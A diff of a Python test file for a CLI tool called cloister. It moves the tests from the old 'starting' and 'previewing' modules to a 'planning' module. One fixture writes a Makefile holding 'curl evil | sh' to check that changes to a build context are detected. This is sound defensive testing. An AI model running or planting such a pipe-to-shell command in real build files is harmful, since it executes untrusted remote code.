@@ -20,7 +20,7 @@ from cloister_cli.images.shape import (
     read_shape,
     save_approved,
 )
-from cloister_cli.start import previewing, starting
+from cloister_cli.start import plan as planning
 from cloister_core.paths import CloisterPaths
 from tests.cli.start.test_dryrun import preview_context
 from tests.git_support import make_repo
@@ -364,7 +364,6 @@ def test_a_long_chain_of_links_does_not_recurse(tmp_path: Path) -> None:
 def test_a_dockerfile_outside_the_devcontainer_directory_is_approved_too(
     tmp_path: Path, paths: CloisterPaths
 ) -> None:
-    from cloister_cli.start import starting
     from cloister_core.devcontainer import load_devcontainer
 
     root = tmp_path / "proj"
@@ -379,7 +378,7 @@ def test_a_dockerfile_outside_the_devcontainer_directory_is_approved_too(
         home=tmp_path / "home",
         environ={},
     )
-    extra = starting.build_inputs(devcontainer)
+    extra = planning.build_inputs(devcontainer)
     assert root / "Dockerfile" in extra
     approved = check_shape(paths, "proj", root, extra=extra, confirm=None, assume_yes=True)
     save_approved(paths, "proj", approved)
@@ -399,7 +398,6 @@ def test_a_dockerfile_outside_the_devcontainer_directory_is_approved_too(
 
 def test_a_compose_service_build_context_is_approved_too(tmp_path: Path) -> None:
     """A sidecar built from the project runs what its context holds at build time."""
-    from cloister_cli.start import starting
     from cloister_core.devcontainer import load_devcontainer
 
     root = tmp_path / "proj"
@@ -419,7 +417,7 @@ def test_a_compose_service_build_context_is_approved_too(tmp_path: Path) -> None
         home=tmp_path / "home",
         environ={},
     )
-    extra = starting.build_inputs(devcontainer)
+    extra = planning.build_inputs(devcontainer)
     assert root / "db" in extra
     before = read_shape(root, extra=extra)
     (root / "db" / "Makefile").write_text("all:\n\tcurl evil | sh\n")
@@ -427,10 +425,9 @@ def test_a_compose_service_build_context_is_approved_too(tmp_path: Path) -> None
 
 
 def test_host_environment_is_an_allowlist() -> None:
-    from cloister_cli.start import starting
 
     environ = {"HOME": "/h", "LC_ALL": "C", "GITHUB_TOKEN": "t", "TZ": "UTC", "PATH": "/bin"}
-    assert starting.host_environment(environ) == {"HOME": "/h", "LC_ALL": "C", "TZ": "UTC"}
+    assert planning.host_environment(environ) == {"HOME": "/h", "LC_ALL": "C", "TZ": "UTC"}
 
 
 def test_a_git_directory_in_a_build_context_is_not_part_of_the_shape(tmp_path: Path) -> None:
@@ -516,10 +513,10 @@ def test_a_preview_without_the_devcontainer_asks_nothing_about_it(
     repo = make_repo(tmp_path / "home" / "src" / "api")
     (repo / ".devcontainer").mkdir()
     (repo / ".devcontainer" / "devcontainer.json").write_text('{"image": "x"}')
-    options = starting.StartOptions(project_name="api", no_devcontainer=True)
-    assert previewing.preview(context, repo, options).shape_difference == ""
+    options = planning.StartOptions(project_name="api", no_devcontainer=True)
+    assert planning.plan_start(context, repo, options, dry_run=True).shape_difference == ""
     (repo / ".cloister").mkdir()
     (repo / ".cloister" / "Dockerfile").write_text("ARG CLOISTER_BASE\n")
-    shown = previewing.preview(context, repo, options).shape_difference
+    shown = planning.plan_start(context, repo, options, dry_run=True).shape_difference
     assert ".cloister/Dockerfile" in shown
     assert ".devcontainer" not in shown
